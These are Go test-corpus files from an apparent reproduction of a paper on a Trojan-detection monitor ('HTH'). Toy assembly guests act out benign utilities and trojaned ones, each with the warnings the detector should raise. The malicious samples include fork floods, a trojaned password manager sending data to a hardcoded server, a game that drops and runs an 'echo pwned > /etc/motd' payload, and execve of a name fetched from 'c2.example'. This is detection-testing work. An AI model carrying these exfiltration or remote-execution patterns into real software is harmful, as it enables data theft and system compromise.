