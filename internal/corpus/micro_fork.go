package corpus

import (
	hth "repro"
	"repro/internal/secpert"
)

// Table 5 — Resource abuse micro benchmarks (§8.1.2). Both frequently
// call fork; HTH detects when the number of processes crosses a
// threshold (Low) and when the creation rate is high (Medium).

func init() {
	register(&Scenario{
		Name:  "loop-forker",
		Table: "T5",
		Row:   "loop forker",
		Desc:  "one main thread forks repeatedly; children loop and sleep",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/forker", `
.text
_start:
    mov esi, 14         ; forks to issue
loop:
    mov eax, 2          ; SYS_fork
    int 0x80
    cmp eax, 0
    jz child
    dec esi
    cmp esi, 0
    jnz loop
    hlt
child:
    ; each child executes a small loop and sleeps (paper: "executes
    ; an infinite loop and sleeps" — bounded here so the run ends)
    mov edi, 50
spin:
    dec edi
    cmp edi, 0
    jnz spin
    mov ebx, 2000
    mov eax, 162        ; SYS_nanosleep
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
		},
		Spec: hth.RunSpec{Path: "/bin/forker"},
		Expect: Expectation{
			Warnings: []ExpectWarning{
				{Severity: secpert.Low, Rule: "check_clone_count", Contains: "This call was frequent"},
				{Severity: secpert.Medium, Rule: "check_clone_rate", Contains: "very frequent in a short period of time"},
			},
			ExactCount: 2,
		},
	})

	register(&Scenario{
		Name:  "tree-forker",
		Table: "T5",
		Row:   "tree forker",
		Desc:  "every process forks and both parent and child continue, creating a process tree",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/treeforker", `
.text
_start:
    mov esi, 4          ; tree depth: 2^4 = 16 processes
loop:
    cmp esi, 0
    jz done
    mov eax, 2          ; SYS_fork
    int 0x80
    ; parent and child both continue with the loop (paper §8.1.2)
    dec esi
    jmp loop
done:
    mov ebx, 0
    mov eax, 1
    int 0x80
`)
		},
		Spec: hth.RunSpec{Path: "/bin/treeforker"},
		Expect: Expectation{
			Warnings: []ExpectWarning{
				{Severity: secpert.Low, Rule: "check_clone_count", Contains: "This call was frequent"},
				{Severity: secpert.Medium, Rule: "check_clone_rate", Contains: "very frequent"},
			},
			ExactCount: 2,
		},
	})
}
