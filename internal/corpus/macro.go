package corpus

import (
	hth "repro"
	"repro/internal/secpert"
)

// §8.4 — Macro benchmarks: real applications, clean and trojaned.

const pwsafeDB = "/.pwsafe.dat"

// pwsafeBase reads the password database and prints it (--exportdb).
const pwsafeBase = `
.import "libc.so"
.import "libcrypto.so"
.import "libreadline.so"
.text
_start:
    ; open the password database (application-default path)
    mov ebx, dbpath
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, dbbuf
    mov edx, 32
    mov eax, 3
    int 0x80
    ; print the entries (--exportdb)
    mov edx, eax
    mov ecx, dbbuf
    mov ebx, 1
    mov eax, 4
    int 0x80
    mov ebx, 0
    call exit
.data
dbpath: .asciz "/.pwsafe.dat"
dbbuf:  .space 32
`

// pwunsafe additionally exfiltrates to the hardcoded duero:40400.
// The paper notes the prototype missed the database file among the
// data sources: the observed warnings name only the crypto/readline
// library buffers (§8.4.1) — reproduced by sending the working
// buffers those libraries populated.
const pwunsafe = `
.import "libc.so"
.import "libcrypto.so"
.import "libreadline.so"
.text
_start:
    ; normal operation first
    mov ebx, dbpath
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, dbbuf
    mov edx, 32
    mov eax, 3
    int 0x80
    ; malicious addition: connect to the hardcoded collection server
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], srvaddr
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    ; send the crypto state (data resident in libcrypto.so)
    mov eax, [crypto_state]
    mov [sendbuf], eax
    mov [scargs+4], sendbuf
    mov [scargs+8], 4
    mov eax, 102
    mov ebx, 9          ; send
    mov ecx, scargs
    int 0x80
    ; send the readline history buffer (data in libreadline.so)
    mov eax, [rl_history]
    mov [sendbuf], eax
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    mov ebx, 0
    call exit
.data
dbpath:  .asciz "/.pwsafe.dat"
srvaddr: .asciz "duero:40400"
dbbuf:   .space 32
sendbuf: .space 4
scargs:  .space 12
`

const libcryptoSrc = `
.image "libcrypto.so"
.text
EVP_EncryptInit:
    ret
.data
crypto_state: .word 0x5EC2E7, 0xC0FFEE
`

const libreadlineSrc = `
.image "libreadline.so"
.text
readline:
    ret
.data
rl_history: .word 0x1157, 0x2257
`

func installPwsafeLibs(sys *hth.System) {
	sys.Install("libcrypto.so", mustLib("libcrypto.so", libcryptoSrc))
	sys.Install("libreadline.so", mustLib("libreadline.so", libreadlineSrc))
	sys.CreateFile(pwsafeDB, []byte("site1:alice:hunter2\n"))
}

// mwInterpreter models /usr/bin/perl running the mw2.2.1 script: it
// reads the script named on the command line and forks once per 'F'
// directive. HTH monitors the *interpreter* (§8.4.2); dataflow is
// turned off for this benchmark, as in the paper.
const mwInterpreter = `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]    ; argv[1] = script path
    mov ecx, 0
    mov eax, 5          ; open the script
    int 0x80
    mov ebx, eax
    mov ecx, script
    mov edx, 64
    mov eax, 3          ; read it
    int 0x80
    mov esi, eax        ; script length
    mov edi, 0
interp:
    cmp edi, esi
    jge done
    mov ecx, script
    add ecx, edi
    movb eax, [ecx]
    cmp eax, 'F'        ; fork directive
    jnz next
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz child
next:
    inc edi
    jmp interp
child:
    mov ebx, 0
    mov eax, 1
    int 0x80
done:
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
script: .space 64
`

// tttBase is the console Tic-Tac-Toe game: reads moves, prints the
// board (§8.4.3).
const tttBase = `
.text
_start:
    mov ebx, 0
    mov ecx, moves
    mov edx, 8
    mov eax, 3          ; read the player's moves
    int 0x80
    ; render the board
    mov ebx, 1
    mov ecx, board
    mov edx, 12
    mov eax, 4
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
board: .asciz "X| |O\n |X| \n"
moves: .space 8
`

// tttTrojan additionally drops a hardcoded payload to a hardcoded
// file and executes it; the execve fails (not an executable format),
// exactly as in the paper's test.
const tttTrojan = `
.text
_start:
    mov ebx, 0
    mov ecx, moves
    mov edx, 8
    mov eax, 3
    int 0x80
    mov ebx, 1
    mov ecx, board
    mov edx, 12
    mov eax, 4
    int 0x80
    ; trojan: drop and run the payload
    mov ebx, payfile
    mov eax, 8          ; creat("./malicious_code.txt")
    int 0x80
    mov ebx, eax
    mov ecx, payload
    mov edx, 22
    mov eax, 4          ; write the hardcoded payload
    int 0x80
    mov eax, 6
    int 0x80
    mov ebx, payfile
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve — fails: not an executable format
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
board:   .asciz "X| |O\n |X| \n"
payfile: .asciz "./malicious_code.txt"
payload: .asciz "echo pwned > /etc/motd"
moves:   .space 8
`

func init() {
	// §8.4.1 pwsafe — clean: no warnings.
	register(&Scenario{
		Name:  "pwsafe",
		Table: "M1",
		Row:   "pwsafe",
		Desc:  "password manager exporting its database to stdout: clean",
		Setup: func(sys *hth.System) {
			installPwsafeLibs(sys)
			sys.MustInstallSource("/bin/pwsafe", pwsafeBase)
		},
		Spec:   hth.RunSpec{Path: "/bin/pwsafe", Argv: []string{"/bin/pwsafe", "--exportdb"}},
		Expect: Expectation{Clean: true},
	})

	// §8.4.1 pwunsafe — the trojaned build: two Low warnings naming
	// the library buffers flowing to the hardcoded server.
	register(&Scenario{
		Name:  "pwunsafe",
		Table: "M1",
		Row:   "pwsafe (modified)",
		Desc:  "trojaned pwsafe exfiltrating to duero:40400: Low warnings per library source",
		Setup: func(sys *hth.System) {
			installPwsafeLibs(sys)
			sys.AddRemote("duero:40400", func() vosScript { return sinkScript{} })
			sys.MustInstallSource("/bin/pwsafe", pwunsafe)
		},
		Spec: hth.RunSpec{Path: "/bin/pwsafe", Argv: []string{"/bin/pwsafe", "--exportdb"}},
		Expect: Expectation{
			Capped: true, Cap: secpert.Low,
			Warnings: []ExpectWarning{
				{Severity: secpert.Low, Contains: "Data Flowing From: libcrypto.so To: duero:40400 (AF_INET)"},
				{Severity: secpert.Low, Contains: "Data Flowing From: libreadline.so To: duero:40400 (AF_INET)"},
				{Severity: secpert.Low, Contains: "target (client) socket-name was hardcoded in:"},
			},
		},
	})

	// §8.4.2 mw2.2.1 — the unmodified script: clean.
	register(&Scenario{
		Name:  "mw-clean",
		Table: "M2",
		Row:   "mw2.2.1",
		Desc:  "perl running the word-lookup script: no warnings (dataflow off, as in the paper)",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/perl", mwInterpreter)
			sys.CreateFile("/home/user/mw2.2.1", []byte("lookup word at merriam-webster"))
		},
		Spec:   hth.RunSpec{Path: "/usr/bin/perl", Argv: []string{"/usr/bin/perl", "/home/user/mw2.2.1"}},
		Tweak:  mwTweak,
		Expect: Expectation{Clean: true},
	})

	// §8.4.2 mw2.2.1 modified — forks more than 20 children: the
	// resource-abuse warnings fire even though HTH monitors the
	// interpreter, not the script.
	register(&Scenario{
		Name:  "mw-forker",
		Table: "M2",
		Row:   "mw2.2.1 (modified)",
		Desc:  "the script forks >20 children; resource-abuse warnings fire on the interpreter",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/perl", mwInterpreter)
			sys.CreateFile("/home/user/mw2.2.1",
				[]byte("FFFFFFFFFFFFFFFFFFFFFF")) // 22 forks
		},
		Spec:  hth.RunSpec{Path: "/usr/bin/perl", Argv: []string{"/usr/bin/perl", "/home/user/mw2.2.1"}},
		Tweak: mwTweak,
		Expect: Expectation{
			ExactCount: 2,
			Warnings: []ExpectWarning{
				{Severity: secpert.Low, Rule: "check_clone_count", Contains: "This call was frequent"},
				{Severity: secpert.Medium, Rule: "check_clone_rate", Contains: "very frequent in a short period of time"},
			},
		},
	})

	// §8.4.3 Ultra Tic Tac Toe — clean.
	register(&Scenario{
		Name:  "ttt",
		Table: "M3",
		Row:   "Tic Tac Toe",
		Desc:  "console game: user moves in, board out — clean",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/games/ttt", tttBase)
		},
		Spec:   hth.RunSpec{Path: "/usr/games/ttt", Stdin: []byte("5\n1\n9\n")},
		Expect: Expectation{Clean: true},
	})

	// §8.4.3 trojaned Tic Tac Toe — High for the payload drop, Low
	// for executing it (and the execve fails: not executable).
	register(&Scenario{
		Name:  "ttt-trojan",
		Table: "M3",
		Row:   "Tic Tac Toe (trojaned)",
		Desc:  "the game drops ./malicious_code.txt and executes it",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/games/ttt", tttTrojan)
		},
		Spec: hth.RunSpec{Path: "/usr/games/ttt", Stdin: []byte("5\n1\n9\n")},
		Expect: Expectation{
			ExactCount: 2,
			Warnings: []ExpectWarning{
				{Severity: secpert.High, Rule: "check_write", Contains: "Found Write call to ./malicious_code.txt"},
				{Severity: secpert.Low, Rule: "check_execve", Contains: `Found SYS_execve call ("./malicious_code.txt")`},
			},
		},
	})
}

// mwTweak reproduces the paper's mw configuration: dataflow tracking
// off (monitoring perl, not the script), information-flow rules off.
func mwTweak(cfg *hth.Config) {
	cfg.Monitor.Dataflow = false
	cfg.Policy.DisableInfoFlow = true
}
