package corpus

import (
	hth "repro"
	"repro/internal/secpert"
)

// Table 4 — Execution flow micro benchmarks (§8.1.1). All four call
// execve; the program name's provenance differs.

func init() {
	register(&Scenario{
		Name:  "execve-user-input",
		Table: "T4",
		Row:   "User input",
		Desc:  "execve with the program name read from stdin: correctly classified as not malicious",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/ls", trivialExe)
			sys.MustInstallSource("/bin/execve.exe", `
.text
_start:
    mov ebx, 0          ; stdin
    mov ecx, buf
    mov edx, 32
    mov eax, 3          ; SYS_read
    int 0x80
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; SYS_execve
    int 0x80
    hlt
.data
buf: .space 32
`)
		},
		Spec:   hth.RunSpec{Path: "/bin/execve.exe", Stdin: []byte("/bin/ls")},
		Expect: Expectation{Clean: true},
	})

	register(&Scenario{
		Name:  "execve-hardcode",
		Table: "T4",
		Row:   "Hardcode",
		Desc:  "execve with a hardcoded program name: Low warning",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/ls", trivialExe)
			sys.MustInstallSource("/bin/execve.exe", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
		},
		Spec: hth.RunSpec{Path: "/bin/execve.exe"},
		Expect: Expectation{
			ExactCount: 1,
			Warnings: []ExpectWarning{{
				Severity: secpert.Low,
				Rule:     "check_execve",
				Contains: `Found SYS_execve call ("/bin/ls")`,
			}},
		},
	})

	register(&Scenario{
		Name:  "execve-remote",
		Table: "T4",
		Row:   "Remote execve",
		Desc:  "execve with the program name received over a socket: High warning",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/ls", trivialExe)
			sys.AddRemote("c2.example:6667", func() vosScript { return sendScript{payload: "/bin/ls"} })
			sys.MustInstallSource("/bin/execve.exe", `
.text
_start:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], addr
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 32
    mov eax, 102
    mov ebx, 10         ; recv
    mov ecx, scargs
    int 0x80
    mov ebx, buf
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
addr:   .asciz "c2.example:6667"
buf:    .space 32
scargs: .space 12
`)
		},
		Spec: hth.RunSpec{Path: "/bin/execve.exe"},
		Expect: Expectation{
			Warnings: []ExpectWarning{{
				Severity: secpert.High,
				Rule:     "check_execve",
				Contains: `originated from ("c2.example:6667")`,
			}},
		},
	})

	register(&Scenario{
		Name:  "execve-infrequent",
		Table: "T4",
		Row:   "Infrequent execve",
		Desc:  "hardcoded execve in rarely-executed code after a sleep: Medium warning",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/ls", trivialExe)
			sys.MustInstallSource("/bin/execve.exe", `
.text
_start:
    ; sleep to simulate malicious code where the execve runs rarely,
    ; long after startup (paper §8.1.1)
    mov ebx, 30000
    mov eax, 162        ; SYS_nanosleep
    int 0x80
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
		},
		Spec: hth.RunSpec{Path: "/bin/execve.exe"},
		Expect: Expectation{
			ExactCount: 1,
			Warnings: []ExpectWarning{{
				Severity: secpert.Medium,
				Rule:     "check_execve",
				Contains: "This code is rarely executed...",
			}},
		},
	})
}
