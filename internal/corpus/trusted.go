package corpus

import (
	hth "repro"
	"repro/internal/secpert"
)

// Table 7 / §8.2 — Trusted programs. Each guest reproduces the
// system-call behaviour the paper describes for the real utility, and
// the expectation encodes the paper's reported outcome: most are
// clean; make/g++ draw Low warnings for their hardcoded sub-programs;
// pico draws a spurious High (a documented prototype gap); xeyes
// draws only Low warnings.

// catLike generates a utility that opens argv[1], reads it, and
// writes the data to stdout.
const catLike = `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]    ; argv[1]
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 64
    mov eax, 3          ; read
    int 0x80
    mov edx, eax
    mov ecx, buf
    mov ebx, 1          ; stdout
    mov eax, 4          ; write
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
buf: .space 64
`

func catScenario(name, row, desc string) {
	bin := "/usr/bin/" + name
	register(&Scenario{
		Name:  name,
		Table: "T7",
		Row:   row,
		Desc:  desc,
		Setup: func(sys *hth.System) {
			sys.MustInstallSource(bin, catLike)
			sys.CreateFile("/home/user/input.txt", []byte("some user content here.\n"))
		},
		Spec:   hth.RunSpec{Path: bin, Argv: []string{bin, "/home/user/input.txt"}},
		Expect: Expectation{Clean: true},
	})
}

func init() {
	// ls: opens "." (a hardcoded name) and prints the listing; HTH
	// detects the hardcoded open but issues no warning (§8.2.1).
	register(&Scenario{
		Name:  "ls",
		Table: "T7",
		Row:   "ls",
		Desc:  "directory listing to stdout; the hardcoded \".\" draws no warning",
		Setup: func(sys *hth.System) {
			sys.CreateFile("/etc/motd", []byte("hi"))
			sys.MustInstallSource("/bin/ls-real", `
.text
_start:
    mov ebx, dot
    mov ecx, 0
    mov eax, 5          ; open(".")
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 256
    mov eax, 3
    int 0x80
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
dot: .asciz "."
buf: .space 256
`)
		},
		Spec:   hth.RunSpec{Path: "/bin/ls-real"},
		Expect: Expectation{Clean: true},
	})

	// column: prints the content of three user-named files (§8.2.2).
	register(&Scenario{
		Name:  "column",
		Table: "T7",
		Row:   "column",
		Desc:  "'column a b c': all three file names come from the command line",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/column", `
.text
_start:
    mov ebp, [esp+4]
    mov edi, 1          ; argv index
nextfile:
    mov esi, [esp]      ; argc
    cmp edi, esi
    jge done
    mov eax, edi
    mul eax, 4
    add eax, ebp
    mov ebx, [eax]      ; argv[edi]
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 64
    mov eax, 3          ; read
    int 0x80
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4          ; write to stdout
    int 0x80
    inc edi
    jmp nextfile
done:
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
buf: .space 64
`)
			sys.CreateFile("a", []byte("aaa\n"))
			sys.CreateFile("b", []byte("bbb\n"))
			sys.CreateFile("c", []byte("ccc\n"))
		},
		Spec:   hth.RunSpec{Path: "/usr/bin/column", Argv: []string{"/usr/bin/column", "a", "b", "c"}},
		Expect: Expectation{Clean: true},
	})

	// make with nothing to do: opens its makefile, decides nothing
	// needs building (§8.2.3, first test).
	register(&Scenario{
		Name:  "make-nothing",
		Table: "T7",
		Row:   "make (up to date)",
		Desc:  "make when the target is already built: reads the makefile, no warning",
		Setup: func(sys *hth.System) {
			sys.CreateFile("makefile", []byte("all: harrier\n"))
			sys.MustInstallSource("/usr/bin/make", `
.text
_start:
    mov ebx, mf
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 64
    mov eax, 3
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
mf:  .asciz "makefile"
buf: .space 64
`)
		},
		Spec:   hth.RunSpec{Path: "/usr/bin/make"},
		Expect: Expectation{Clean: true},
	})

	// make clean: executes the hardcoded '/bin/sh' — Low (§8.2.3:
	// "HTH issued a warning [Low] for a hardcoded execve system
	// call: '/bin/sh' was hardcoded").
	register(&Scenario{
		Name:  "make-clean",
		Table: "T7",
		Row:   "make clean",
		Desc:  "make clean spawns /bin/sh with a hardcoded path: one Low warning",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/bin/sh", trivialExe)
			sys.CreateFile("makefile", []byte("clean:\n\trm -f harrier\n"))
			sys.MustInstallSource("/usr/bin/make", `
.text
_start:
    mov ebx, mf
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 64
    mov eax, 3
    int 0x80
    ; run the clean recipe through the shell
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, eax
    mov ecx, 0
    mov edx, 0
    mov eax, 7          ; waitpid
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
child:
    mov ebx, sh
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve("/bin/sh")
    int 0x80
    hlt
.data
mf:  .asciz "makefile"
sh:  .asciz "/bin/sh"
buf: .space 64
`)
		},
		Spec: hth.RunSpec{Path: "/usr/bin/make", Argv: []string{"/usr/bin/make", "clean"}},
		Expect: Expectation{
			ExactCount: 1,
			Warnings: []ExpectWarning{{
				Severity: secpert.Low, Rule: "check_execve",
				Contains: `Found SYS_execve call ("/bin/sh")`,
			}},
		},
	})

	// make building: locates g++ through the PATH environment
	// variable, so the executed name is hardcoded *and* user-
	// originated (§8.2.3, third test) — Low warnings only.
	register(&Scenario{
		Name:  "make-build",
		Table: "T7",
		Row:   "make (building)",
		Desc:  "make locates g++ via $PATH: execve name is part user (PATH), part hardcoded",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/g++", trivialExe)
			sys.MustInstallSource("/usr/bin/make", `
.import "libc.so"
.text
_start:
    ; namebuf = env[0] + 5 (skip "PATH=") ++ "/g++"
    mov esi, [esp+8]    ; envp array
    mov ecx, [esi]      ; env[0] = "PATH=/usr/bin"
    add ecx, 5
    mov ebx, namebuf
    call strcpy
    mov ebx, namebuf
    call strlen
    mov ebx, namebuf
    add ebx, eax
    mov ecx, suffix
    call strcpy
    ; fork + execve(namebuf)
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, eax
    mov ecx, 0
    mov edx, 0
    mov eax, 7
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
child:
    mov ebx, namebuf
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
suffix:  .asciz "/g++"
namebuf: .space 64
`)
		},
		Spec: hth.RunSpec{
			Path: "/usr/bin/make",
			Env:  []string{"PATH=/usr/bin"},
		},
		Expect: Expectation{
			Capped: true, Cap: secpert.Low,
			Warnings: []ExpectWarning{{
				Severity: secpert.Low, Rule: "check_execve",
				Contains: `Found SYS_execve call ("/usr/bin/g++")`,
			}},
		},
	})

	// g++: spawns the hardcoded cc1plus and collect2 — two Low
	// warnings (§8.2.4).
	register(&Scenario{
		Name:  "g++",
		Table: "T7",
		Row:   "g++",
		Desc:  "g++ executes hardcoded 'cc1plus' and 'collect2': two Low warnings",
		Setup: func(sys *hth.System) {
			installTools(sys, "/usr/libexec/cc1plus", "/usr/libexec/collect2")
			sys.MustInstallSource("/usr/bin/g++", `
.text
_start:
    mov edi, cc1
    call spawn
    mov edi, col2
    call spawn
    mov ebx, 0
    mov eax, 1
    int 0x80
spawn:
    mov eax, 2          ; fork
    int 0x80
    cmp eax, 0
    jz spawn_child
    mov ebx, eax
    mov ecx, 0
    mov edx, 0
    mov eax, 7          ; waitpid
    int 0x80
    ret
spawn_child:
    mov ebx, edi
    mov ecx, 0
    mov edx, 0
    mov eax, 11         ; execve
    int 0x80
    hlt
.data
cc1:  .asciz "/usr/libexec/cc1plus"
col2: .asciz "/usr/libexec/collect2"
`)
		},
		Spec: hth.RunSpec{Path: "/usr/bin/g++", Argv: []string{"/usr/bin/g++", "test.cpp", "DataFlow.C"}},
		Expect: Expectation{
			ExactCount: 2,
			Capped:     true, Cap: secpert.Low,
			Warnings: []ExpectWarning{
				{Severity: secpert.Low, Contains: "cc1plus"},
				{Severity: secpert.Low, Contains: "collect2"},
			},
		},
	})

	// awk / tail / diff / wc: user-named files to stdout — clean
	// (§8.2.5, §8.2.7, §8.2.8, §8.2.9).
	catScenario("awk", "awk", "awk '/ifdef/' file: matching lines from a user-named file to stdout")
	catScenario("tail", "tail", "tail file: the end of a user-named file to stdout")
	catScenario("wc", "wc", "wc file: counts derived from a user-named file to stdout")

	register(&Scenario{
		Name:  "diff",
		Table: "T7",
		Row:   "diff",
		Desc:  "diff a b: output derives from both user-named files",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/diff", `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]    ; argv[1]
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 32
    mov eax, 3
    int 0x80
    mov ebx, [ebp+8]    ; argv[2]
    mov ecx, 0
    mov eax, 5
    int 0x80
    mov ebx, eax
    mov ecx, buf2
    mov edx, 32
    mov eax, 3
    int 0x80
    ; "compare" and print both
    mov ebx, 1
    mov ecx, buf
    mov edx, 32
    mov eax, 4
    int 0x80
    mov ebx, 1
    mov ecx, buf2
    mov edx, 32
    mov eax, 4
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
buf:  .space 32
buf2: .space 32
`)
			sys.CreateFile("a", []byte("alpha\n"))
			sys.CreateFile("b", []byte("beta\n"))
		},
		Spec:   hth.RunSpec{Path: "/usr/bin/diff", Argv: []string{"/usr/bin/diff", "a", "b"}},
		Expect: Expectation{Clean: true},
	})

	// bc: echoes the user's expression and prints the result —
	// stdout only (§8.2.10).
	register(&Scenario{
		Name:  "bc",
		Table: "T7",
		Row:   "bc",
		Desc:  "bc adds two numbers from stdin; output echoes user input",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/bc", `
.text
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, 16
    mov eax, 3          ; read expression
    int 0x80
    ; echo it
    mov edx, eax
    mov ecx, buf
    mov ebx, 1
    mov eax, 4
    int 0x80
    ; "compute" and print a result digit
    movb eax, [buf]
    movb ebx, [buf+2]
    add eax, ebx
    sub eax, '0'
    movb [res], eax
    mov ebx, 1
    mov ecx, res
    mov edx, 2
    mov eax, 4
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
buf: .space 16
res: .byte 0, '\n'
`)
		},
		Spec:   hth.RunSpec{Path: "/usr/bin/bc", Stdin: []byte("2+3\n")},
		Expect: Expectation{Clean: true},
	})

	// pico: the user types text and saves it to a user-named file.
	// The paper's prototype mis-identified both the data and the file
	// name as BINARY and issued a spurious High warning (§8.2.6); the
	// guest reproduces the prototype's incomplete tracking by routing
	// both through an OR with zero bytes that live in the binary.
	register(&Scenario{
		Name:  "pico",
		Table: "T7",
		Row:   "pico",
		Desc:  "editor save draws a spurious High (reproducing the prototype's dataflow gap)",
		Setup: func(sys *hth.System) {
			sys.MustInstallSource("/usr/bin/pico", `
.text
_start:
    mov ebp, [esp+4]
    ; read the user's text
    mov ebx, 0
    mov ecx, inbuf
    mov edx, 32
    mov eax, 3
    int 0x80
    mov esi, eax        ; length
    ; "process" the text through the editor's internal buffer: the
    ; prototype's dataflow lost the USER_INPUT source here, so the
    ; result is tagged from the binary. Modeled with or-zero.
    mov edi, 0
proc:
    cmp edi, esi
    jge procdone
    mov ecx, inbuf
    add ecx, edi
    movb eax, [ecx]
    or eax, [zeros]     ; picks up the BINARY tag
    mov ecx, outbuf
    add ecx, edi
    movb [ecx], eax
    inc edi
    jmp proc
procdone:
    ; same for the file name (argv[1])
    mov esi, [ebp+4]
    mov edi, 0
nameproc:
    mov ecx, esi
    add ecx, edi
    movb eax, [ecx]
    or eax, [zeros]
    mov ecx, namebuf
    add ecx, edi
    movb [ecx], eax
    test eax, 0xFF
    jz namedone
    inc edi
    jmp nameproc
namedone:
    ; save
    mov ebx, namebuf
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, outbuf
    mov edx, 16
    mov eax, 4          ; write
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
zeros:   .byte 0, 0, 0, 0
inbuf:   .space 32
outbuf:  .space 32
namebuf: .space 32
`)
		},
		Spec: hth.RunSpec{Path: "/usr/bin/pico", Argv: []string{"/usr/bin/pico", "a.txt"}, Stdin: []byte("hello editor")},
		Expect: Expectation{
			Warnings: []ExpectWarning{{
				Severity: secpert.High, Rule: "check_write",
				Contains: "Found Write call to a.txt",
			}},
		},
	})

	// xeyes: writes X11 protocol data — sourced from the X libraries
	// and its own binary — to the (hardcoded) display socket. All
	// warnings are Low (§8.2.11).
	register(&Scenario{
		Name:  "xeyes",
		Table: "T7",
		Row:   "xeyes",
		Desc:  "X client: library and binary data to the hardcoded display socket — Low only",
		Setup: func(sys *hth.System) {
			sys.Install("libX11.so", mustLib("libX11.so", `
.image "libX11.so"
.text
XOpenDisplay:
    ret
.data
xlc_table: .word 0x11111111, 0x22222222
`))
			sys.AddRemote("localhost:6000", func() vosScript { return sinkScript{} })
			sys.MustInstallSource("/usr/bin/xeyes", `
.import "libX11.so"
.text
_start:
    ; assemble an X11 request: half from libX11 tables, half from
    ; the xeyes binary itself
    mov eax, [xlc_table]
    mov [req], eax
    mov eax, [own_data]
    mov [req+4], eax
    ; connect to the display
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], display
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    ; send the request
    mov [scargs+4], req
    mov [scargs+8], 8
    mov eax, 102
    mov ebx, 9
    mov ecx, scargs
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
display:  .asciz "localhost:6000"
own_data: .word 0x33333333
req:      .space 8
scargs:   .space 12
`)
		},
		Spec: hth.RunSpec{Path: "/usr/bin/xeyes"},
		Expect: Expectation{
			Capped: true, Cap: secpert.Low,
			Warnings: []ExpectWarning{
				{Severity: secpert.Low, Contains: "Data Flowing From: libX11.so"},
				{Severity: secpert.Low, Contains: "Data Flowing From: /usr/bin/xeyes"},
			},
		},
	})
}
