#!/bin/sh
# Rebuild the checked-in ELF32 fixtures from source with the real GNU
# toolchain. The binaries are committed so the test suite never needs
# a cross-assembler; rerun this only when the sources change.
#
#   cd internal/corpus/testdata/elf && ./build.sh
set -eu
